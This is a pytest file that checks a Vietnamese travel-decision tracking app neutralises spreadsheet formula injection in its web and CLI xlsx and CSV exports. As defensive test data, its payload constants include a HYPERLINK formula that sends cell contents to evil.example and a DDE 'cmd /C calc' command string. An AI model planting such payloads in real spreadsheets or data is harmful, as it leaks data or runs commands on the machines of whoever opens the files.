"""Exports are inert: a formula typed or imported as a name, a position or a decision
number comes out as text in every xlsx and CSV (issue 14).

The files are produced by the real routes over HTTP and by the real CLI, then opened
with openpyxl (no cell is a formula) and the csv module (no cell starts a formula).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from cli.wiring import open_app
from engine import sanitize
from kernel.clock import ManualClock
from tests.conftest import make_config
from tests.import_support import invoke
from web import users
from web.security import configure_passwords
from web.testing import LiveServer, csrf_of, login

PASSWORD = "mat-khau-thu-nghiem"
CHEAP = {"THEODOI_WEB__PASSWORD_TIME_COST": "1", "THEODOI_WEB__PASSWORD_MEMORY_KIB": "1024"}
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
DECISION = "=2+3/QĐ"
PAYLOADS = (LINK, DECISION, "+SUM(1;2)", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1")
HEADER = ("decision_number,decision_date,issuer,full_name,position,unit,category,destination,"
          "purpose,departure_date,return_date,report_filed_date,report_accepted")


def _csv_line(*cells: str) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(cells)
    return buf.getvalue()


@pytest.fixture
def site(tmp_path: Path) -> Iterator[dict[str, Any]]:
    db = tmp_path / "theodoi.db"
    add_units = tmp_path / "units.csv"
    add_units.write_text("code,name,email\nSYT,Sở Y tế,syt@example.vn\n", encoding="utf-8")
    invoke(db, "import", "units", str(add_units))
    trips = tmp_path / "trips.csv"
    trips.write_text(
        HEADER + "\n"
        + _csv_line(DECISION, "06/01/2021", "department", LINK, "@chức vụ", "SYT", "unit",
                    "Campuchia", "official", "13/01/2021", "16/01/2021", "", "")
        + _csv_line("=1+1", "07/01/2021", "department", "-Trần Văn B", "+Phó GĐ", "SYT", "unit",
                    "Lào", "official", "13/01/2021", "16/01/2021", "28/01/2021", "yes"),
        encoding="utf-8",
    )
    invoke(db, "import", "trips", str(trips))
    config = make_config(f"sqlite:///{db}", **CHEAP)
    clock = ManualClock(datetime(2021, 11, 23, 2, 0))
    app = open_app(config, clock, upgrade=True, worker_id="web-test")
    configure_passwords(config.web)
    with app.db.session() as s:
        users.add_user(s, "coord@snv.vn", "coordinator", now=clock.now(), password=PASSWORD)
    with LiveServer(app) as server:
        client = server.client()
        assert login(client, "coord@snv.vn", PASSWORD).status_code == 303
        yield {"app": app, "client": client, "db": db, "tmp": tmp_path}
        client.close()
    app.close()


def _type_a_decision(client: Any) -> None:
    """The payloads typed in the new-decision form."""
    form = {"csrf_token": csrf_of(client.get("/decisions/new").text), "rows": "2",
            "number": "=3+4/QĐ-SNgV", "decided_on": "2021-08-01", "issuer": "department"}
    for i, name in enumerate((LINK, "@Lê Văn C")):
        form.update({f"t{i}_name": name, f"t{i}_unit": "SYT", f"t{i}_category": "unit",
                     f"t{i}_purpose": "official", f"t{i}_destinations": "KH",
                     f"t{i}_position": "=cmd", f"t{i}_departure": "2021-08-10",
                     f"t{i}_return": "2021-08-15"})
    answer = client.post("/decisions/new", data=form)
    assert answer.status_code == 303, answer.text[:2000]


def assert_inert_workbook(content: bytes | Path, *must_contain: str) -> None:
    book = load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    texts: list[str] = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for text in must_contain:
        assert text in texts, f"{text!r} is not a text cell"


def assert_inert_csv(text: str, *must_contain: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    for cell in cells:
        assert not cell.startswith(sanitize.TRIGGERS), f"CSV cell {cell!r} starts a formula"
    for text in must_contain:
        assert "'" + text in cells, f"{text!r} is not in the CSV with its prefix"


def test_the_helper_neutralises_every_trigger(tmp_path: Path) -> None:
    for payload in PAYLOADS:
        assert sanitize.csv_value(payload) == "'" + payload
    assert sanitize.csv_value("Nguyễn Văn An") == "Nguyễn Văn An"
    assert sanitize.csv_value(-5) == -5 and sanitize.csv_value(None) == ""
    book = Workbook()
    ws = book.active
    for row, payload in enumerate(PAYLOADS, start=1):
        sanitize.write(ws, row, 1, payload)
    ws.cell(len(PAYLOADS) + 1, 1, "=1+1")  # written past the helper: the final pass catches it
    sanitize.neutralise_sheet(ws)
    book.save(tmp_path / "x.xlsx")
    assert_inert_workbook(tmp_path / "x.xlsx", *PAYLOADS, "=1+1")


def test_web_exports_are_inert(site: dict[str, Any]) -> None:
    client = site["client"]
    _type_a_decision(client)
    xlsx = client.get("/cases.xlsx")
    assert xlsx.status_code == 200
    assert_inert_workbook(xlsx.content, LINK, DECISION, "=3+4/QĐ-SNgV", "@Lê Văn C", "-Trần Văn B")
    listing = client.get("/cases.csv")
    assert listing.status_code == 200
    assert_inert_csv(listing.text, LINK, DECISION, "=3+4/QĐ-SNgV", "@Lê Văn C")
    report = client.get("/compliance.xlsx?from=2021-01-01&to=2021-12-31")
    assert report.status_code == 200
    assert_inert_workbook(report.content, LINK, DECISION, "@chức vụ", "+Phó GĐ", "=cmd")


def test_cli_exports_are_inert(site: dict[str, Any]) -> None:
    db, tmp = site["db"], site["tmp"]
    invoke(db, "export", "cases", "-f", "xlsx", "-o", str(tmp / "cases.xlsx"))
    assert_inert_workbook(tmp / "cases.xlsx", LINK, DECISION, "-Trần Văn B")
    printed = invoke(db, "export", "cases", "-f", "csv").output
    assert_inert_csv(printed, LINK, DECISION, "-Trần Văn B")
    invoke(db, "export", "cases", "-f", "csv", "-o", str(tmp / "cases.csv"))
    assert_inert_csv((tmp / "cases.csv").read_text(encoding="utf-8"), LINK, DECISION)
    invoke(db, "report", "compliance", "--from", "2021-01-01", "--to", "2021-12-31",
           "-f", "xlsx", "-o", str(tmp / "compliance.xlsx"))
    assert_inert_workbook(tmp / "compliance.xlsx", LINK, DECISION, "@chức vụ")
    listed = invoke(db, "cases", "-f", "csv").output
    assert_inert_csv(listed, LINK)
